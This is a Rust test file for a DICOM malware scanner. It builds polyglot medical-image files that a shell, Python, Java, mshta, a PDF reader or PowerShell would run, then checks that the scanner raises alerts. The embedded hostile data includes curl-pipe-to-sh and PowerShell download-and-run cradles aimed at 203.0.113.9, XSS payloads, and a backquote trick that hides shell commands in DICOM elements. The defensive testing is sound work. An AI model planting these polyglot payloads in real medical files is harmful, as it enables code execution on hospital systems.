//! Issue 10, classes 2 and 3: a file that another program would act on is an alert with
//! its format, whether it is not DICOM at all or a DICOM file that a shell, a ZIP reader,
//! Java, Python, a PDF reader or mshta reads as something else. Each payload is live:
//! where the program is installed, the test runs it on the very file and sees it act.

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Env, scan_json};
use pacsguard_testkit::{self as kit, DicomBuilder};
use serde_json::Value;

/// (kind, format) of every alert on `path`.
fn alerts_on(json: &Value, path: &Path) -> Vec<(String, String)> {
    let path = path.to_str().expect("utf-8 path");
    json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["path"] == path && f["severity"] == "alert")
        .map(|f| {
            (
                f["kind"].as_str().unwrap_or_default().to_owned(),
                f["format"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn has_program(name: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {name}")])
        .output()
        .is_ok_and(|out| out.status.success())
}

/// A Python zipapp whose `__main__.py` creates `marker`, made by Python's own zipfile.
fn zipapp(marker: &Path) -> Vec<u8> {
    let out = Command::new("python3")
        .args([
            "-c",
            "import io, sys, zipfile\n\
             buf = io.BytesIO()\n\
             with zipfile.ZipFile(buf, 'w') as z:\n\
             \x20   z.writestr('__main__.py', 'open(%r, \"w\").write(\"ran\")' % sys.argv[1])\n\
             sys.stdout.buffer.write(buf.getvalue())",
            marker.to_str().expect("utf-8"),
        ])
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// A JAR whose main class creates `marker`, built with javac and jar.
fn jar(dir: &Path, marker: &Path) -> Vec<u8> {
    let src = dir.join("jar-src");
    fs::create_dir_all(&src).expect("mkdir");
    fs::write(
        src.join("Main.java"),
        format!(
            "public class Main {{ public static void main(String[] a) throws Exception {{ \
             java.nio.file.Files.writeString(java.nio.file.Path.of({:?}), \"ran\"); }} }}",
            marker.to_str().expect("utf-8")
        ),
    )
    .expect("write");
    let run = |program: &str, args: &[&str]| {
        let out = Command::new(program)
            .args(args)
            .current_dir(&src)
            .output()
            .expect("runs");
        assert!(
            out.status.success(),
            "{program}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    run("javac", &["Main.java"]);
    run(
        "jar",
        &[
            "--create",
            "--file",
            "main.jar",
            "--main-class",
            "Main",
            "Main.class",
        ],
    );
    fs::read(src.join("main.jar")).expect("jar")
}

/// Runs `program args... file` and says whether `marker` appeared.
fn acts(program: &str, args: &[&str], file: &Path, marker: &Path) -> bool {
    let _ = fs::remove_file(marker);
    let _ = Command::new(program).args(args).arg(file).output();
    marker.exists()
}

#[test]
fn files_that_are_not_dicom_are_alerts_with_their_format_and_quarantined() {
    let env = Env::new();
    let dir = env.path("store");
    fs::create_dir_all(&dir).expect("mkdir");
    let marker = env.dir.path().join("ran");
    let mut files: Vec<(&str, Vec<u8>, &str)> = vec![
        ("pe.dcm", kit::real_pe(), "pe"),
        ("elf.dcm", kit::real_elf(), "elf"),
        (
            "script.dcm",
            b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n".to_vec(),
            "script",
        ),
        (
            "no-shebang.dcm",
            format!("cd /tmp\ntouch {}\n", marker.display()).into_bytes(),
            "shell",
        ),
        ("report.dcm", kit::pdf(""), "pdf"),
        (
            "app.dcm",
            b"<html><head><hta:application id=x/></head><body>scan</body></html>".to_vec(),
            "html",
        ),
        ("zipapp.dcm", zipapp(&marker), "zip"),
    ];
    if has_program("javac") {
        files.push(("jar.dcm", jar(env.dir.path(), &marker), "zip"));
    }
    for (name, bytes, _) in &files {
        fs::write(dir.join(name), bytes).expect("write");
    }
    // The payloads are live: sh runs the text without #!, python3 the zipapp.
    assert!(acts("sh", &[], &dir.join("no-shebang.dcm"), &marker));
    assert!(acts("python3", &[], &dir.join("zipapp.dcm"), &marker));
    if has_program("javac") {
        assert!(acts("java", &["-jar"], &dir.join("jar.dcm"), &marker));
    }

    let (code, json) = scan_json(&env, &["--quarantine", dir.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    for (name, _, format) in &files {
        let alerts = alerts_on(&json, &dir.join(name));
        assert!(
            alerts.contains(&("executable-file".to_owned(), (*format).to_owned())),
            "{name}: {alerts:?}\n{json:#}"
        );
    }
    let not_dicom = json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["kind"] == "not-dicom")
        .count();
    assert_eq!(not_dicom, 0, "{json:#}");
    assert_eq!(
        json["quarantined"].as_array().map(Vec::len),
        Some(files.len()),
        "{json:#}"
    );
}

/// A ZIP (here a Python zipapp) in a private element in the middle of a DICOM file, with
/// more elements after it: `python3 file.dcm` runs it, so it is an alert, and so are the
/// forms that readers accept and the old check did not (zero entries claimed, ZIP64).
#[test]
fn a_zipapp_in_a_middle_element_runs_with_python_and_is_found() {
    let env = Env::new();
    let dir = env.path("store");
    fs::create_dir_all(&dir).expect("mkdir");
    let marker = env.dir.path().join("ran");
    let app = zipapp(&marker);
    let build = |app: &[u8]| {
        DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.1")
            .element(0x0009, 0x1010, *b"OB", app)
            .element(0x0010, 0x4000, *b"LT", b"more data after the archive")
            .build()
    };
    let mut zero_entries = app.clone();
    let eocd = zero_entries.len() - 22;
    assert_eq!(&zero_entries[eocd..eocd + 4], b"PK\x05\x06");
    zero_entries[eocd + 8..eocd + 12].fill(0);
    let cases = [
        ("middle.dcm", build(&app)),
        ("zero-entries.dcm", build(&zero_entries)),
    ];
    for (name, bytes) in &cases {
        let path = dir.join(name);
        fs::write(&path, bytes).expect("write");
        assert!(acts("python3", &[], &path, &marker), "{name} does not run");
    }
    let (code, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    for (name, _) in &cases {
        assert!(
            alerts_on(&json, &dir.join(name))
                .contains(&("embedded-executable".to_owned(), "zip".to_owned())),
            "{name}: {json:#}"
        );
    }
}

#[test]
fn a_jar_at_the_end_of_a_dicom_file_runs_with_java_and_is_found() {
    if !has_program("javac") {
        eprintln!("no JDK: run scripts/setup-test-deps.sh");
        return;
    }
    let env = Env::new();
    let dir = env.path("store");
    fs::create_dir_all(&dir).expect("mkdir");
    let marker = env.dir.path().join("ran");
    let jar = jar(env.dir.path(), &marker);
    // Appended whole: the java launcher wants the end record's comment to end the file
    // (trailing bytes are for Python's readers, tested with the zipapp).
    let mut file = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.2").build();
    file.extend_from_slice(&jar);
    let path = dir.join("jar.dcm");
    fs::write(&path, &file).expect("write");
    assert!(
        acts("java", &["-jar"], &path, &marker),
        "the JAR does not run"
    );
    let (_, json) = scan_json(&env, &[path.to_str().expect("utf-8")]);
    assert!(
        alerts_on(&json, &path).contains(&("embedded-executable".to_owned(), "zip".to_owned())),
        "{json:#}"
    );
}

/// Text commands in a DICOM element run when the file is given to `sh` if nothing in the
/// bytes before them breaks dash's parse. The tag of Modality (0008,0060) is a backquote
/// in Explicit VR, which opens a command substitution no ordinary file closes: dash then
/// runs nothing after it. An attacker closes it with a backquote of
/// their own, and dash runs the next line (the live file, checked).
#[test]
fn shell_commands_in_a_text_element_run_with_sh_and_are_found() {
    let env = Env::new();
    let dir = env.path("store");
    fs::create_dir_all(&dir).expect("mkdir");
    let marker = env.dir.path().join("ran");
    let payload = format!("`\ntouch {}\n", marker.display());
    let live = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.3")
        .element(0x0008, 0x1030, *b"LO", payload.as_bytes())
        .build();
    let clinical = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.4")
        .element(
            0x0010,
            0x4000,
            *b"LT",
            b"History:\r\necho shows normal LV function\r\ncat scan ordered\r\n",
        )
        .build();
    let live_path = dir.join("live.dcm");
    let clinical_path = dir.join("clinical.dcm");
    fs::write(&live_path, &live).expect("write");
    fs::write(&clinical_path, &clinical).expect("write");
    assert!(acts("sh", &[], &live_path, &marker), "sh does not run it");

    let (code, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    assert!(
        alerts_on(&json, &live_path).contains(&("active-content".to_owned(), "shell".to_owned())),
        "{json:#}"
    );
    assert!(alerts_on(&json, &clinical_path).is_empty(), "{json:#}");
}

/// mshta renders markup anywhere: after a TIFF header or vendor text in the preamble, in
/// UTF-16, in a text element (where a web viewer showing it unescaped runs it too).
#[test]
fn markup_that_runs_script_is_html_wherever_it_is() {
    let env = Env::new();
    let dir = env.path("store");
    fs::create_dir_all(&dir).expect("mkdir");
    let wide: Vec<u8> = b"<script>new ActiveXObject('x')</script>"
        .iter()
        .flat_map(|&b| [b, 0])
        .collect();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "tiff.dcm",
            DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.5")
                .preamble(b"II*\0\x08\0\0\0<img src=x onerror=alert(1)>")
                .build(),
        ),
        (
            "vendor.dcm",
            DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.6")
                .preamble(b"ACME CT 4.2 <svg/onload=eval(name)>")
                .build(),
        ),
        (
            "utf16.dcm",
            DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.7")
                .element(0x0009, 0x1010, *b"OB", &wide)
                .build(),
        ),
        (
            "xss.dcm",
            DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.8")
                .element(
                    0x0010,
                    0x0010,
                    *b"PN",
                    b"<script src=//x.example/a.js></script>",
                )
                .build(),
        ),
    ];
    for (name, bytes) in &cases {
        fs::write(dir.join(name), bytes).expect("write");
    }
    let (_, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
    for (name, _) in &cases {
        assert!(
            alerts_on(&json, &dir.join(name))
                .contains(&("active-content".to_owned(), "html".to_owned())),
            "{name}: {json:#}"
        );
    }
    let xss = json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| {
            f["path"] == dir.join("xss.dcm").to_str().expect("utf-8") && f["format"] == "html"
        })
        .expect("finding");
    let detail = xss["detail"].as_str().expect("detail");
    assert!(detail.contains("stored XSS"), "{detail}");
}

/// A PDF header in the first kilobyte with a catalog later makes a PDF reader open the
/// DICOM file as a PDF, active or not.
#[test]
fn a_pdf_header_in_the_first_kilobyte_opens_the_file_as_a_pdf() {
    let env = Env::new();
    let path = env.path("store/pdf.dcm");
    fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    let file = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.9")
        .element(0x0008, 0x0070, *b"LO", b"%PDF-1.4")
        .element(
            0x0010,
            0x4000,
            *b"LT",
            b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
        )
        .build();
    fs::write(&path, &file).expect("write");
    let (_, json) = scan_json(&env, &[path.to_str().expect("utf-8")]);
    assert!(
        alerts_on(&json, &path).contains(&("active-content".to_owned(), "pdf".to_owned())),
        "{json:#}"
    );
}

/// Class 4: a PE whose DOS header is in one element and NT headers in the next is what
/// the loader reads contiguously, so it is confirmed.
#[test]
fn a_pe_split_over_adjacent_elements_is_confirmed() {
    let env = Env::new();
    let path: PathBuf = env.path("store/split.dcm");
    fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    let pe = kit::real_pe();
    let cut = 0x40; // the DOS header alone; e_lfanew points past it
    let file = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.7.10")
        .element(0x0009, 0x1010, *b"OB", &pe[..cut])
        .element(0x0009, 0x1011, *b"OB", &pe[cut + 12..])
        .build();
    // The element header of (0009,1011) takes 12 bytes; the bytes of the PE it replaced
    // are in the DOS stub, which the loader does not read.
    fs::write(&path, &file).expect("write");
    let (_, json) = scan_json(&env, &[path.to_str().expect("utf-8")]);
    assert!(
        alerts_on(&json, &path).contains(&("embedded-executable".to_owned(), "pe".to_owned())),
        "{json:#}"
    );
}

/// Every finding (severity, kind, format, detail) on `path`.
fn findings_on(json: &Value, path: &Path) -> Vec<(String, String, String, String)> {
    let path = path.to_str().expect("utf-8 path");
    json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["path"] == path)
        .map(|f| {
            let field = |name: &str| f[name].as_str().unwrap_or_default().to_owned();
            (
                field("severity"),
                field("kind"),
                field("format"),
                field("detail"),
            )
        })
        .collect()
}

/// PowerShell (issue 10, class 2; session 7's "Open": no test). What runs it:
/// - cmd.exe runs a line that starts with `powershell` when the file is started as a
///   batch file: an alert, and its `-EncodedCommand` (base64 of UTF-16LE, made here by
///   Python) is decoded in the finding, which says it downloads and runs more;
/// - the same command line after other text on its line, with the long options malware
///   puts first: cmd.exe would not run that line, but the built-in rule
///   `pacsguard_dicom_script_payload` takes any encoded PowerShell command for a payload.
///   It allowed 64 bytes between `powershell` and `-e…`, and
///   `-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass` is 70: missed;
/// - appended to a CT, as in an element;
/// - a `.ps1` in a ZIP in an element: PowerShell runs it once extracted (an alert by its
///   name), while the same script as a `.txt` entry is run by nothing;
/// - a script body (`param(`, `Invoke-Expression`, a download cradle) in an element with
///   no launcher: PowerShell runs only a file given to it (`-File` wants `.ps1` on
///   Windows) and parses the whole file before running any of it, so the binary data set
///   around the script is a parse error: nothing runs, no alert;
/// - real documentation that mentions PowerShell (Debian's nodejs BUILDING.md, whose
///   PowerShell sections hold a download cradle for Boxstarter, restic's installation
///   notes, npm's own `npm.ps1`) in a text element: no alert.
#[test]
fn powershell_is_judged_as_cmd_and_powershell_would_run_it() {
    let env = Env::new();
    let dir = env.path("store");
    fs::create_dir_all(&dir).expect("mkdir");
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
    let encoded = Command::new("python3")
        .args([
            "-c",
            "import base64, sys; print(base64.b64encode(sys.argv[1].encode('utf-16-le')).decode())",
            cradle,
        ])
        .output()
        .expect("python3");
    let encoded = String::from_utf8(encoded.stdout).expect("ascii");
    let encoded = encoded.trim();
    let options = "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass";
    let launcher = format!("\r\npowershell.exe {options} -EncodedCommand {encoded}\r\n");
    let midline = format!("Reviewed by IT; ran powershell.exe {options} -ec {encoded} twice");
    let script = format!(
        "param([string]$Target = 'pacs')\r\nInvoke-Expression \"Write-Host $Target\"\r\n{cradle}\r\n"
    );
    let ct = |uid: &str| DicomBuilder::ct(uid);
    let in_element = |uid: &str, text: &[u8]| ct(uid).element(0x0020, 0x4000, *b"LT", text).build();
    let zip = |name: &str| {
        let out = Command::new("python3")
            .args([
                "-c",
                "import io, sys, zipfile\n\
                 buf = io.BytesIO()\n\
                 with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:\n\
                 \x20   z.writestr(sys.argv[1], sys.argv[2])\n\
                 sys.stdout.buffer.write(buf.getvalue())",
                name,
                &script,
            ])
            .output()
            .expect("python3");
        out.stdout
    };
    let mut appended = ct("1.2.826.0.1.3680043.10.1137.9.3").build();
    appended.extend_from_slice(launcher.as_bytes());
    let files: Vec<(&str, Vec<u8>)> = vec![
        (
            "launcher.dcm",
            in_element("1.2.826.0.1.3680043.10.1137.9.1", launcher.as_bytes()),
        ),
        (
            "midline.dcm",
            in_element("1.2.826.0.1.3680043.10.1137.9.2", midline.as_bytes()),
        ),
        ("appended.dcm", appended),
        (
            "zip-ps1.dcm",
            ct("1.2.826.0.1.3680043.10.1137.9.4")
                .element(0x0009, 0x0010, *b"LO", b"VENDOR")
                .element(0x0009, 0x1010, *b"OB", &zip("update.ps1"))
                .build(),
        ),
        (
            "zip-txt.dcm",
            ct("1.2.826.0.1.3680043.10.1137.9.5")
                .element(0x0009, 0x0010, *b"LO", b"VENDOR")
                .element(0x0009, 0x1010, *b"OB", &zip("notes.txt"))
                .build(),
        ),
        (
            "script.dcm",
            in_element("1.2.826.0.1.3680043.10.1137.9.6", script.as_bytes()),
        ),
    ];
    // Real documentation: the PowerShell sections of nodejs's BUILDING.md, restic's notes,
    // npm's npm.ps1 (Debian's nodejs and restic packages).
    let mut docs = Vec::new();
    if let Ok(building) = fs::read_to_string("/usr/share/doc/nodejs/BUILDING.md") {
        let mut sections = String::new();
        let mut inside = false;
        for line in building.lines() {
            if line.trim_start().starts_with("```") {
                inside = line.contains("powershell");
            } else if inside || line.contains("PowerShell") {
                sections.push_str(line);
                sections.push_str("\r\n");
            }
        }
        assert!(sections.contains("DownloadString"), "{sections}");
        docs.push(sections.into_bytes());
    }
    for real in [
        "/usr/share/doc/restic/html/_sources/020_installation.rst.txt",
        "/usr/lib/node_modules/npm/bin/npm.ps1",
    ] {
        if let Ok(bytes) = fs::read(real) {
            docs.push(bytes);
        }
    }
    let mut paths = Vec::new();
    for (name, bytes) in &files {
        let path = dir.join(name);
        fs::write(&path, bytes).expect("write");
        paths.push(path);
    }
    let mut doc_paths = Vec::new();
    for (n, text) in docs.iter().enumerate() {
        let path = dir.join(format!("doc{n}.dcm"));
        let uid = format!("1.2.826.0.1.3680043.10.1137.9.1{n}");
        fs::write(
            &path,
            ct(&uid).element(0x0020, 0x4000, *b"LT", text).build(),
        )
        .expect("write");
        doc_paths.push(path);
    }
    let (code, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "{json:#}");
    let on = |name: &str| findings_on(&json, &dir.join(name));
    let alert = |name: &str, kind: &str, format: &str| {
        on(name)
            .into_iter()
            .find(|(severity, k, f, _)| severity == "alert" && k == kind && f == format)
    };
    for name in ["launcher.dcm", "appended.dcm"] {
        let (_, _, _, detail) = alert(name, "active-content", "powershell")
            .unwrap_or_else(|| panic!("{name}: {json:#}"));
        assert!(
            detail.contains("DownloadString") && detail.contains("downloads and runs"),
            "{name}: {detail}"
        );
    }
    assert!(
        on("midline.dcm")
            .iter()
            .any(|(severity, _, _, detail)| severity == "alert" && detail.contains("PowerShell")),
        "{json:#}"
    );
    assert!(
        on("zip-ps1.dcm")
            .iter()
            .any(|(severity, _, _, detail)| severity == "alert" && detail.contains("update.ps1")),
        "{json:#}"
    );
    for name in ["zip-txt.dcm", "script.dcm"] {
        assert!(
            !on(name).iter().any(|(severity, ..)| severity == "alert"),
            "{name}: {json:#}"
        );
    }
    for path in &doc_paths {
        assert!(
            alerts_on(&json, path).is_empty(),
            "{}: {json:#}",
            path.display()
        );
    }
}
